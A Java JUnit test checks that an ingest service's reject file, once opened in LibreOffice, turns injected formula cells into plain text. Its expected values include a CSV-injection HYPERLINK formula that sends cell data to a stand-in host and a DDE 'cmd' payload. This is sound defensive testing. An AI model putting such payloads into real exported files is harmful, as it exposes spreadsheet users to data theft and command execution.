package org.wardstat.ingest;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;

import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.beans.factory.annotation.Autowired;
import org.wardstat.PipelineTest;
import org.wardstat.system.Messages;

/**
 * The reject file opened the way a user opens it: LibreOffice imports it (UTF-8, comma,
 * double quotes) and saves it as a workbook, which POI reads back. A cell that was a formula in
 * the file loaded stays text; the same cell written as it came would be a formula. Needs
 * LibreOffice (soffice), so it runs in the services profile.
 */
@Tag("libreoffice")
class RejectFileInLibreOfficeTest extends PipelineTest {

    @Autowired
    IngestService ingest;

    @TempDir
    Path temp;

    @Test
    void aRejectedFormulaOpensAsTextInLibreOffice() throws Exception {
        Path file = temp.resolve("o-xau.csv");
        Files.writeString(file, BadCellsTest.FILE, StandardCharsets.UTF_8);
        Path rejects = ingest.ingest(file, Messages.vietnamese()).rejectFile();

        try (XSSFWorkbook workbook = openedInLibreOffice(rejects)) {
            Sheet sheet = workbook.getSheetAt(0);
            List<String> formulas = new ArrayList<>();
            for (Row row : sheet) {
                for (Cell cell : row) {
                    if (cell.getCellType() == CellType.FORMULA) {
                        formulas.add(cell.getAddress() + " " + cell.getCellFormula());
                    }
                }
            }
            assertThat(formulas).isEmpty();
            Row hyperlink = sheet.getRow(8);
            assertThat(hyperlink.getCell(2).getNumericCellValue()).isEqualTo(10);
            assertThat(hyperlink.getCell(4).getCellType()).isEqualTo(CellType.STRING);
            assertThat(hyperlink.getCell(4).getStringCellValue()).isEqualTo("'=HYPERLINK(\"http://x.example/?\"&A1;\"bấm\")");
            assertThat(sheet.getRow(9).getCell(4).getStringCellValue()).isEqualTo("'+cmd|' /C calc'!A0");
            assertThat(sheet.getRow(6).getCell(4).getStringCellValue()).isEqualTo("duc␀xuan");
        }

        // the control: the same cell as it came is a formula to LibreOffice
        Path raw = temp.resolve("raw.csv");
        Files.writeString(raw, "a,b\n1,\"=HYPERLINK(\"\"http://x.example/\"\";\"\"bấm\"\")\"\n", StandardCharsets.UTF_8);
        try (XSSFWorkbook workbook = openedInLibreOffice(raw)) {
            assertThat(workbook.getSheetAt(0).getRow(1).getCell(1).getCellType()).isEqualTo(CellType.FORMULA);
        }
    }

    private XSSFWorkbook openedInLibreOffice(Path csv) throws IOException, InterruptedException {
        Path out = Files.createTempDirectory(temp, "lo-out");
        Process soffice = new ProcessBuilder("soffice", "--headless", "-env:UserInstallation=file://" + temp.resolve("lo-profile"),
                "--convert-to", "xlsx", "--infilter=CSV:44,34,76,1", "--outdir", out.toString(), csv.toString())
                .redirectErrorStream(true).redirectOutput(temp.resolve("soffice.log").toFile()).start();
        assertThat(soffice.waitFor(3, TimeUnit.MINUTES)).as("soffice finished").isTrue();
        Path xlsx = out.resolve(csv.getFileName().toString().replaceFirst("\\.csv$", ".xlsx"));
        assertThat(xlsx).as(Files.readString(temp.resolve("soffice.log"))).exists();
        try (InputStream in = Files.newInputStream(xlsx)) {
            return new XSSFWorkbook(in);
        }
    }
}
